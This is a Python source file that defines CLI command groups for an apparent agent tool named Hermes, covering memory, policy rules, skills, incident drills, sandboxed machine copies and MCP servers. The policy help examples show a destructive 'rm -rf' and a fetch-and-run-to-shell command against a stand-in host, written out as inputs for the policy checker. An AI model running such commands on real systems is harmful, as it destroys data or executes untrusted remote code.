"""Command groups of what the agent knows and may do: memory, rules, skills, drills, MCP."""

from hermes.cli.lazy import cli_group

MEMORY_COMMANDS = {
    "list": ("memory.read:list_", "List the facts, the latest confirmed first"),
    "show": ("memory.read:show", "Show a fact with its sources"),
    "history": ("memory.read:history", "Show the events of a fact, or of all facts"),
    "add": ("memory.write:add", "Add a fact"),
    "share": ("memory.write:share", "Share a fact with the team; --stop ends it"),
    "forget": ("memory.write:forget", "Remove facts from recall, search and lists"),
    "learn": ("memory.write:learn", "Extract facts from unprocessed sessions"),
    "audit": ("memory.read:audit", "Find duplicates, recall loops, bad quotes, secrets"),
    "export": ("memory.write:export", "Write facts as JSON lines"),
    "import": ("memory.write:import_", "Import facts of another home; trusted less"),
}


@cli_group(
    MEMORY_COMMANDS,
    """
hermes memory list --about nginx
hermes memory show fact-1a2b3c
hermes memory add "the deploy window is Friday 14:00"
hermes memory share fact-1a2b3c
hermes memory forget fact-1a2b3c
hermes memory audit
hermes memory export > facts.jsonl
""",
    default="list",
)
def memory() -> None:
    """Facts from earlier sessions. Without a command: list.

    A fact is episodic (an event), semantic (a state) or declarative (a manual). It has sources and
    a trust level, and ends when another fact replaces it. FACT is an id or its beginning.

    The two files that every session starts with, MEMORY.md and USER.md, are in the home folder and
    can be edited.
    """


POLICY_COMMANDS = {
    "check": ("policy.check:check", "Print the verdict on one command, or on many"),
    "explain": ("policy.explain:explain", "Show the deciding rule, and near misses"),
    "list": ("policy.rules:list_", "List all rules in force, with file and line"),
    "show": ("policy.rules:show", "Show a rule as it is written"),
    "always": ("policy.rules:always", "List what is always allowed; --revoke ends it"),
    "test": ("policy.files:test", "Run PolicyTest files"),
    "lint": ("policy.files:lint", "Find errors in policy files"),
    "replay": ("policy.replay:replay", "Decide recorded actions with other rules"),
    "misjudged": ("policy.replay:misjudged", "List operations that the kernel blocked"),
    "report": ("policy.replay:report", "Count decisions per rule"),
}


@cli_group(
    POLICY_COMMANDS,
    """
hermes policy check -- rm -rf /srv/data              one verdict
hermes policy explain -- 'curl -s x.example/i | sh'  and why
hermes policy check --jsonl - < commands.jsonl       many verdicts
hermes policy lint && hermes policy test             check new rules
hermes policy replay --file new-rule.yaml            what it would have changed
""",
    default="list",
)
def policy() -> None:
    """Check, explain, test and replay the rules of the agent. Without a command: list.

    Rules are files in `policies` of the home folder and in `.hermes/policies` of a project, on
    top of a built-in set (observe, suggest, careful or sandboxed; `hermes config set policy.set`).

    Exit codes: 0 fine, 1 a test failed or a file has errors, 2 wrong usage, 3 the policy files in
    force are broken, 7 not allowed (only `check --exit-code`).
    """


SKILL_COMMANDS = {
    "list": ("skills.read:list_", "List skills; --task ranks them for a task"),
    "show": ("skills.read:show", "Show a skill, or one of its files"),
    "new": ("skills.authoring:new", "Create a skill"),
    "edit": ("skills.authoring:edit", "Change a skill; a bundled one is copied first"),
    "lint": ("skills.read:lint", "Find errors in skills and playbooks"),
    "run": ("skills.run:run", "Run a playbook, or show what it would do"),
    "history": ("skills.authoring:history", "List the versions of a skill"),
    "diff": ("skills.authoring:diff", "Show what changed between two versions"),
    "rollback": ("skills.authoring:rollback", "Restore an earlier version"),
    "retire": ("skills.authoring:retire", "Take a skill out of use; --back undoes it"),
    "compile": ("skills.lifecycle:compile_", "Test a Python skill and make it a tool"),
    "distill": ("skills.lifecycle:distill", "Create a draft skill from a verified run"),
    "promote": ("skills.lifecycle:promote", "Show the state of a skill; evaluate and promote it"),
    "review": ("skills.review:review", "Learn from failed tasks"),
    "stats": ("skills.read:stats", "Show use and results of each skill"),
    "export": ("skills.bundles:export", "Pack a skill as one signed file"),
    "search": ("skills.hub:search", "Search hubs for skills"),
    "install": ("skills.hub:install", "Install skills of others, after a scan"),
    "update": ("skills.hub:update", "Install newer versions of skills from hubs"),
    "outdated": ("skills.hub:outdated", "List skills from hubs with newer versions"),
    "accept": ("skills.hub:accept", "Accept findings of a skill in quarantine, with a reason"),
    "import": ("skills.hub:import_", "Import skills of others; the same as install"),
    "verify": ("skills.bundles:verify", "Check a bundle without importing it"),
    "publish": ("skills.bundles:publish", "Publish skills over HTTP or git"),
    "trust": ("skills.publishers:trust", "List known publishers and their keys"),
    "revoke": ("skills.publishers:revoke", "Revoke a skill, a digest or a key"),
}


@cli_group(
    SKILL_COMMANDS,
    """
hermes skills list --task "the disk of web-3 is full"
hermes skills show disk-full-runaway-log
hermes skills run disk-full-runaway-log --dry-run --label service=orders
hermes skills lint ./.hermes/skills
hermes skills history my-skill
""",
    default="list",
)
def skills() -> None:
    """Skills: tested instructions and playbooks. Without a command: list.

    A skill is a folder with a SKILL.md and optionally a playbook.yaml, which runs without a model.
    Bundled skills come with Hermes, your own are in the home folder under skills/, those of a
    project in .hermes/skills. Of skills with the same name, the project wins, then your own.
    """


DRILL_COMMANDS = {
    "list": ("drills.run:list_", "List the scenarios, and which can run here"),
    "show": ("drills.run:show", "Show a scenario: its alert, its checks"),
    "run": ("drills.run:run", "Let an agent handle a scenario, and score it"),
    "selftest": ("drills.bench:selftest", "Check the scenarios themselves"),
    "shell": ("drills.incident_drills:shell", "Work on a scenario by hand"),
    "score": ("drills.incident_drills:score", "Score the drill that is open in a shell"),
    "bench": ("drills.bench:bench", "Compare agents over many scenarios and seeds"),
    "from-incident": ("drills.incident_drills:from_incident", "Make a drill from an incident"),
}


@cli_group(
    DRILL_COMMANDS,
    """
hermes drill list
hermes drill show config-typo-after-edit
hermes drill run config-typo-after-edit --seed 7 --model anthropic:claude-sonnet-5
hermes drill run ./my-scenario --model none --json
hermes drill selftest --all
hermes drill shell config-typo-after-edit
hermes drill bench --agent no-op --agent reference --seeds 3 --plot bench.svg
hermes drill from-incident last                  your own outage as a drill
""",
)
def drill() -> None:
    """Break a host in a box, let an agent or a person fix it, and score the result.

    A scenario is a name, or the path of its folder.
    """


COPY_COMMANDS = {
    "run": ("copies:run", "Run a command in a copy of this machine"),
    "diff": ("copies:diff", "Run a command in a copy and show what it changed"),
    "shell": ("copies:shell", "Open a shell in a copy of this machine"),
}


@cli_group(
    COPY_COMMANDS,
    """
hermes copy run -- apt-get -y remove nginx
hermes copy run --unit nginx -- 'sleep 1; curl -s localhost'
hermes copy diff -- sed -i s/8080/80/ /etc/nginx/nginx.conf
hermes copy shell
""",
)
def copy() -> None:
    """Try something in a copy of this machine. Nothing in it changes the machine.

    A copy shows the files of the machine and has its own processes and network. /run, /tmp and
    /dev/shm are empty, and databases that run are left out. It ends with the command.

    Exit codes: that of the command; 1 the machine cannot be copied, 5 the copy failed.
    """


MCP_COMMANDS = {
    "list": ("admin.mcp:list_", "List the servers, and how their tools are classed"),
    "add": ("admin.mcp:add", "Add a server, and class its tools"),
    "review": ("admin.mcp:review", "Review what changed, and class tools again"),
    "login": ("admin.mcp:login", "Log in at a server over HTTP with a browser (OAuth)"),
    "logout": ("admin.mcp:logout", "Forget the login at a server"),
    "test": ("admin.mcp:test", "Start a server and compare it with its review"),
    "remove": ("admin.mcp:remove", "Forget a server"),
    "serve": ("admin.mcp:serve", "Serve Hermes to another program over stdio"),
    "recipes": ("admin.mcp:recipes", "List well-known servers and how to install them"),
}


@cli_group(
    MCP_COMMANDS,
    """
hermes mcp add time -- mcp-server-time
hermes mcp add grafana                            from the recipe of that name
hermes mcp list
hermes mcp review grafana
""",
    default="list",
)
def mcp() -> None:
    """Servers of the Model Context Protocol. Without a command: list.

    A tool that a person classed as read may run without a question; every other one asks. A
    server that describes a tool otherwise than reviewed is not called until a person looks again.

    Exit codes: 0 fine, 1 the server does not answer or has changed, 2 wrong usage, 3 settings.
    """
